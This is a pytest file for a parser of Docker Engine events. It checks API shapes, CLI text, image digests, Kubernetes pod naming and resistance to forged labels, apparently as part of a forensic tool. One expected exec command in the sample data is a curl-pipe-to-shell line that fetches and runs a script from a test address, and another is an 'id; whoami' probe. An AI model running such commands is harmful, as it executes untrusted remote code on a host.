"""Docker Engine events: both API shapes, the CLI's text, names of images, pods, and what labels must not do."""

import json
from pathlib import Path
from typing import Any

import pytest
from runtime_records import (
    decode,
    decode_all,
    digest,
    hex_of,
    is_recognised,
    of_kind,
    one,
    records,
    sample,
    survives,
)

from tidewaiter.event import (
    ContainerCreate,
    ContainerEvent,
    ContainerExec,
    ContainerStart,
    ContainerStop,
    Event,
    ImageName,
    ImagePull,
    Where,
)
from tidewaiter.sources import RecordError
from tidewaiter.sources.docker_events import SOURCE, recognise, recognise_text

ID = hex_of("c")
TIME_NS = 1_790_000_000_123_456_789
POD_UID = "0c8a1f52-6a0e-4a1b-9f5d-2f6c3a7b9e01"


def event(kind: str, action: str, subject: str, **attributes: str) -> dict[str, Any]:
    """An event in the shape of API 1.52."""
    actor = {"ID": subject, "Attributes": attributes}
    return {"Type": kind, "Action": action, "Actor": actor, "scope": "local", "timeNano": TIME_NS}


def test_both_api_shapes_tell_the_same() -> None:
    """API 1.52 dropped status, id and from; nothing that is read here was lost with them."""
    assert decode_all(SOURCE, sample("docker_events", "api_1.41")) == decode_all(
        SOURCE, sample("docker_events", "api_1.52")
    )


def test_the_life_of_a_container_is_told_in_order() -> None:
    """Pull, create, start, exec (twice, one exec_id), die, destroy; network, attach, kill and exec_die say nothing."""
    events = decode_all(SOURCE, sample("docker_events", "api_1.52"))
    kinds = [type(found) for found in events]
    assert kinds == [
        ImagePull,
        ImagePull,
        ContainerCreate,
        ContainerStart,
        ContainerExec,
        ContainerExec,
        ContainerStop,
        ContainerStop,
    ]
    assert [stop.removed for stop in of_kind(events, ContainerStop)] == [False, True]
    created, (first, second) = of_kind(events, ContainerCreate)[0], of_kind(events, ContainerExec)
    assert (created.name, created.runtime) == ("cart", "docker")
    assert created.image is not None
    assert created.image.reference == "registry.example.net/shop/cart:2.3"
    assert first.exec_id == second.exec_id is not None
    assert first.command == ("sh", "-c", "curl", "-fsS", "http://198.51.100.7/x", "|", "sh")


def test_a_pull_by_digest_keeps_the_digest_and_one_by_tag_has_none() -> None:
    """A pull event names what was typed, and no more."""
    by_tag, by_digest = of_kind(decode_all(SOURCE, sample("docker_events", "api_1.41")), ImagePull)
    assert (by_tag.reference, by_tag.repo_digest) == ("registry.example.net/shop/cart:2.3", None)
    assert by_digest.repo_digest is not None
    assert by_digest.reference.endswith(by_digest.repo_digest)


def test_events_that_move_names_carry_the_config_digest() -> None:
    """tag, save, untag, load, import, commit, build and delete; an id given as name is no name."""
    names = of_kind(decode_all(SOURCE, sample("docker_events", "names_api_1.41")), ImageName)
    assert [(name.action, name.reference) for name in names] == [
        ("tag", "innocent:latest"),
        ("save", None),
        ("untag", None),
        ("load", None),
        ("import", None),
        ("commit", "derived:1"),
        ("build", None),
        ("tag", "built:1"),
        ("remove", None),
    ]
    assert all(name.config_digest is not None for name in names)
    assert [name.parent_container_id is not None for name in names].count(True) == 1


def test_a_pod_comes_from_the_containers_name_and_never_from_labels() -> None:
    """The kubelet's name form counts; the same labels on a container with another name do not."""
    sandbox, created, started, liar = decode_all(SOURCE, sample("docker_events", "dockershim_api_1.40"))
    assert isinstance(sandbox, ContainerCreate)
    assert sandbox.is_sandbox
    for container in (created, started):
        assert isinstance(container, ContainerEvent)
        assert container.pod is not None
        assert (container.pod.namespace, container.pod.name, container.pod.container_name) == (
            "shop",
            "web-7d4b9",
            "web",
        )
        assert container.pod.uid == POD_UID
    assert isinstance(liar, ContainerCreate)
    assert liar.pod is None


def test_a_label_that_contradicts_the_kubelets_name_voids_the_pod() -> None:
    """`docker run --name k8s_..` with other labels is no pod."""
    name = f"k8s_web_web-0_shop_{POD_UID}_0"
    record = event("container", "create", ID, image="x:1", name=name, **{"io.kubernetes.pod.name": "other"})
    assert one(SOURCE, record, ContainerCreate).pod is None


def test_labels_cannot_forge_an_exec_id() -> None:
    """dockerd lets a label `execID` hide its own attribute; only an id in its strict form is taken."""
    forged = one(SOURCE, event("container", "exec_start: id", ID, execID="same-for-all", image="x"), ContainerExec)
    assert (forged.exec_id, forged.command) == (None, ("id",))


def test_an_image_given_by_id_is_its_config_digest() -> None:
    """`docker run <id>` and the steps of a build name their image so."""
    image = one(SOURCE, event("container", "create", ID, image=digest("a")), ContainerCreate).image
    assert image is not None
    assert image.config_digest == digest("a")


def test_the_text_form_reads_like_the_json_form() -> None:
    """`docker events` without a format: zone offsets, a command with blanks, a cut id."""
    events = decode_all(SOURCE, sample("docker_events", "cli_text"))
    assert [type(found) for found in events] == [
        ImagePull,
        ContainerCreate,
        ContainerStart,
        ContainerExec,
        ContainerStop,
        ContainerStop,
    ]
    assert events[0].time_ns == 1_790_000_000_120_345_678
    assert of_kind(events, ContainerExec)[0].command == ("sh", "-c", "id;", "whoami")
    cut = of_kind(events, ContainerStop)[1]
    assert cut.container_id is None
    assert cut.container_id_prefix is not None
    assert len(cut.container_id_prefix) == 12


def test_an_elided_id_is_no_id() -> None:
    """The CLI's documentation writes `0fdb...ff37`; the event stays, for no container."""
    started = one(SOURCE, "2026-09-21T16:13:22+02:00 container start 0fdb...ff37 (image=a:1, name=t)", ContainerStart)
    assert (started.container_id, started.container_id_prefix, started.name) == (None, None, "t")


def test_a_label_cannot_forge_an_image_in_the_text_form() -> None:
    """A label's value may hold `, image=..`; a key that stands twice is unknown, never the first or the last."""
    line = f"2026-09-21T16:13:22Z container create {ID} (aaa=1, image=ours/x:1, image=evil/x:1, name=t)"
    assert one(SOURCE, line, ContainerCreate).image is None


def test_a_command_that_looks_like_the_end_of_its_line_is_refused() -> None:
    """Where the command ends and the id begins cannot be told, so nothing is guessed."""
    line = f"2026-09-21T16:13:22Z container exec_start: echo {hex_of('d')} (x) {ID} (image=a:1)"
    with pytest.raises(RecordError, match="cannot be told"):
        decode(SOURCE, line)


def test_an_event_of_before_api_1_22_is_read() -> None:
    """status, id, from and time were once all there was; a pull has no `from`."""
    started = one(SOURCE, {"status": "start", "id": ID, "from": "x:1", "time": 1_790_000_000}, ContainerStart)
    assert started.image is not None
    assert (started.time_ns, started.image.reference) == (1_790_000_000 * 10**9, "x:1")
    assert one(SOURCE, {"status": "pull", "id": "x:1", "time": 1_790_000_000}, ImagePull).reference == "x:1"


@pytest.mark.parametrize(
    "record",
    [
        event("network", "connect", hex_of("b"), container=ID),
        event("volume", "create", "data"),
        event("daemon", "reload", "x"),
        event("image", "push", "x:1", name="x"),
        event("container", "attach", ID, image="x"),
        event("container", "kill", ID, image="x", signal="1"),
        event("container", "exec_die", ID, image="x", exitCode="0"),
        event("container", "health_status: healthy", ID, image="x"),
    ],
)
def test_events_that_tell_nothing_here_give_nothing(record: dict[str, Any]) -> None:
    """They are recognised, so that they count as irrelevant and not as rejected."""
    assert recognise(record)
    assert decode(SOURCE, record) == []


@pytest.mark.parametrize(
    "broken",
    [
        {"Type": "container", "Action": "start", "Actor": {"ID": ID}},
        {"Type": "container", "Actor": {"ID": ID}, "time": 1},
        {**event("container", "start", ID), "timeNano": 10**25},
        {**event("container", "start", ID), "timeNano": -5},
        {**event("container", "start", ID), "Actor": {"ID": 7}},
        event("image", "pull", ""),
    ],
)
def test_an_event_without_time_action_or_subject_is_rejected(broken: dict[str, Any]) -> None:
    """As is one whose time is no time."""
    with pytest.raises(RecordError):
        decode(SOURCE, broken)


def test_the_users_names_are_used_where_the_record_names_none() -> None:
    """The Engine's events name no node."""
    where = Where("docker_events", "e.jsonl", 7, cluster="west", node="host-1")
    started = one(SOURCE, event("container", "start", ID), ContainerStart, where)
    assert (started.cluster, started.node, started.where) == ("west", "host-1", where)


def test_other_producers_are_not_claimed() -> None:
    """Podman's events, containerd's, Kubernetes objects, log lines."""
    assert not recognise({"Type": "container", "Status": "start", "ID": ID, "Time": "2026-09-21T14:13:20Z"})
    assert not recognise({"kind": "Event", "apiVersion": "v1", "type": "Normal", "action": "x"})
    assert not recognise({"status": "ok", "id": "1", "time": 5, "latency": 3})
    assert not recognise_text(b"2026-09-21 14:13:20 +0000 UTC k8s.io /tasks/start {}")


def test_hostile_bytes_raise_only_record_errors() -> None:
    """Stumps, mutants and rubbish of the JSON and of the text form."""
    for record in [*sample("docker_events", "api_1.41")[:7], *sample("docker_events", "cli_text")]:
        survives(SOURCE, record)


def test_a_real_engine_is_read_whole(shared: Path) -> None:
    """Engine 20.10: eight pulls, seven containers, three execs told twice, and every image name that moved."""
    stream = list(records(shared / "captures/docker/docker-events.jsonl"))
    events = decode_all(SOURCE, stream)
    assert len(of_kind(events, ImagePull)) == 8
    assert len(of_kind(events, ContainerCreate)) == len(of_kind(events, ContainerStart)) == 7
    assert len({found.exec_id for found in of_kind(events, ContainerExec)}) == 3
    assert len(of_kind(events, ContainerExec)) == 6
    built = json.loads((shared / "captures/00-built-digests.json").read_bytes())
    names = {(name.action, name.reference): name.config_digest for name in of_kind(events, ImageName)}
    assert names["tag", "innocent:latest"] == names["load", None] == built["web/amd64"]["config"]
    assert {found.reference for found in of_kind(events, ImagePull) if found.repo_digest == built["web/index"]}
    live: list[Event] = events
    assert live == decode_all(SOURCE, records(shared / "captures/docker/docker-events-replay.jsonl"))


def test_the_cli_documentation_is_recognised(shared: Path) -> None:
    """Its four lines with the impossible zone `Z07:00` are rejected, the rest is read."""
    lines = list(records(shared / "samples/docker_events/docker-cli-doc-events.txt"))
    assert all(is_recognised(SOURCE, line) for line in lines)
    rejected = [line for line in lines if b"Z07:00" in line]
    for line in rejected:
        with pytest.raises(RecordError):
            decode(SOURCE, line)
    events = decode_all(SOURCE, [line for line in lines if line not in rejected])
    assert len(rejected) == 4
    assert {found.container_id for found in of_kind(events, ContainerCreate)} == {
        "0fdb48addc82871eb34eb23a847cfd033dedd1a0a37bef2e6d9eb3870fc7ff37",
        None,
    }


@pytest.mark.parametrize(("name", "workload"), [("shop-web-1", "web"), ("shop_web_2", "web"), ("focused_turing", None)])
def test_a_service_of_compose_is_told_by_the_name_and_agreeing_labels(name: str, workload: str | None) -> None:
    """Labels alone may be the image author's."""
    labels = {"com.docker.compose.project": "shop", "com.docker.compose.service": "web"}
    pod = one(SOURCE, event("container", "create", ID, image="x:1", name=name, **labels), ContainerCreate).pod
    assert (None if pod is None else pod.workload) == workload
    other = event("container", "create", ID, image="x:1", name=name, **labels | {"com.docker.compose.project": "y"})
    assert one(SOURCE, other, ContainerCreate).pod is None
    assert one(SOURCE, event("container", "create", ID, image="x:1", name=name), ContainerCreate).pod is None
